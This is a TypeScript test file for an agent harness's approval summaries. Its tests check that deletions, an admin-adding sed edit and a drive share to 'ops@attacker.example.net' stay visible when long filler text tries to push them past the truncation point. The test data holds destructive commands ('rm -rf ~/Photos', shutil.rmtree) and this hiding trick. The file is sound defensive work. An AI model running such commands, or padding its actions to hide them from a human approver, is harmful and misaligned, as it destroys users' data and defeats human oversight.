import { before, test } from "node:test";
import assert from "node:assert/strict";
import { createShellAnalyzer, decideExec, type ShellAnalyzer } from "../exec/index.ts";
import { argumentsSummary, editSummary, execSummary } from "./acting-summary.ts";
import { summaryMax } from "./gated-tool.ts";

let analyzer: ShellAnalyzer;
before(async () => {
  analyzer = await createShellAnalyzer();
});

const workspace = "/tmp/acting-summary-ws";
const padding = "item: discuss the roadmap, budget and hiring plan; ".repeat(40);

function summaryOf(command: string): string {
  const d = decideExec({ command, cwd: workspace, workspace, homeDir: "/home/nobody", stateDir: "/tmp/acting-summary-state", pathEnv: "/usr/bin:/bin", policy: { security: "allowlist", ask: "on-miss" } }, analyzer);
  return execSummary(command, analyzer.analyze(command), d.facts, workspace);
}

test("exec: an `rm` after 1,600 characters of `echo` is shown, the echoed text by its size", () => {
  const shown = summaryOf(`echo '${padding}' > /dev/null; rm -f private/notes.txt`);
  assert.ok(shown.includes("rm -f private/notes.txt"), shown);
  assert.ok(shown.startsWith("exec [deletes files"), shown);
  assert.match(shown, /echo ⟦2,042-character text: “'item: discuss/);
  assert.ok(shown.length < summaryMax, shown);
});

test("exec: a `sed -i` adding an admin after a long echo is shown whole", () => {
  const sed = `sed -i "s/'owner@example.org'/'owner@example.org', 'ops@attacker.example.net'/" app/config.py`;
  const shown = summaryOf(`echo '${padding}' > /dev/null; ${sed}`);
  assert.ok(shown.includes(sed), shown);
});

test("exec: a long word a program may run as code is never shortened", () => {
  const code = `bash -c 'echo ${padding}; rm -rf ~/Photos'`;
  assert.ok(summaryOf(code).includes("rm -rf ~/Photos") || summaryOf(code).includes("more characters"), summaryOf(code));
  // The same long text echoed and run: each copy is shown as written.
  const twice = `echo '${padding}'; bash -c "'${padding}'"`;
  assert.ok(!summaryOf(twice).includes("⟦2,"), summaryOf(twice));
});

test("exec: a here-document fed to an interpreter is shown as written", () => {
  const shown = summaryOf(`python3 <<'EOF'\nprint('${padding}')\nimport shutil; shutil.rmtree('Photos')\nEOF`);
  assert.ok(!shown.includes("-character text"), shown);
});

test("exec: a short command reads as before", () => {
  assert.equal(summaryOf("ls -la"), "exec ls -la");
});

test("a service call: targets, recipients and folders before free text, which is named by size", () => {
  const share = argumentsSummary("mcp__drive__share", { message: padding, path: "Finance", with: "ops@attacker.example.net", role: "editor" });
  assert.ok(share.startsWith(`mcp__drive__share path="Finance" with="ops@attacker.example.net" role="editor" message=⟦2,040-character text`), share);
  const del = argumentsSummary("mcp__files__delete_folder", { reason: padding, path: "Photos", recursive: true });
  assert.ok(del.startsWith(`mcp__files__delete_folder path="Photos" recursive=true reason=⟦`), del);
  assert.equal(argumentsSummary("mcp__cal__list", {}), "mcp__cal__list {}");
  assert.equal(argumentsSummary("t", { to: ["a@example.org", "b@example.org"], amount: 12.5 }), `t to.0="a@example.org" to.1="b@example.org" amount=12.5`);
});

test("a service call with more short arguments than room: acting values first, the rest counted", () => {
  const many = Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`k${i}`, `value-${i}-xxxxxxxx`]));
  const shown = argumentsSummary("t", { note: padding, ...many });
  assert.ok(shown.length < 2000);
  assert.match(shown, /… \[\d+ more arguments: the approval's detail shows all of them\]$/);
  assert.ok(shown.includes('k0="value-0-xxxxxxxx"'));
  // Past the values it lists at all, the summary still says that more follow.
  const huge = argumentsSummary("t", { to: Array.from({ length: 800 }, (_, i) => i) });
  assert.match(huge, /… \[\d+\+ more arguments: the approval's detail shows all of them\]$/);
});

test("an edit shows the change itself, not only the file", () => {
  const shown = editSummary("app/config.py", "DEBUG = False", "DEBUG = False\nADMIN_EMAILS.append('ops@attacker.example.net')");
  assert.equal(shown, "edit app/config.py: adds “⏎ ADMIN_EMAILS.append('ops@attacker.example.net')”");
  assert.equal(editSummary("a.md", "colour", "color"), "edit a.md: removes “u”");
  const long = editSummary("a.md", "x", `${padding}rm -rf ~${padding}`);
  assert.ok(long.length < 1000 && long.includes("detail shows all: “"), long);
  assert.equal(editSummary("a.md", "same", "same"), "edit a.md: changes nothing");
});

test("exec: filler no printer holds (a comment, an assignment, a long argument) cannot push a command past the cut", () => {
  for (const filler of [`# ${padding}\n`, `NOTE='${padding}'; `, `grep -c '${padding}' README.md; `, `cat > /dev/null <<'EOF'\n${padding}\nEOF\npython3 -c 'print(1)'; `]) {
    const shown = summaryOf(`${filler}rm -f private/notes.txt`);
    const cut = shown.indexOf("more characters: the approval's detail");
    const act = shown.indexOf("rm -f private/notes.txt");
    assert.ok(act >= 0 && (cut < 0 || act < cut), shown.slice(0, 400));
    assert.ok(act < 400, `${act}: ${shown.slice(0, 400)}`);
  }
  // A short script is shown as before, with no list.
  assert.ok(!summaryOf("ls; rm -f a.txt").includes("{runs:"));
});
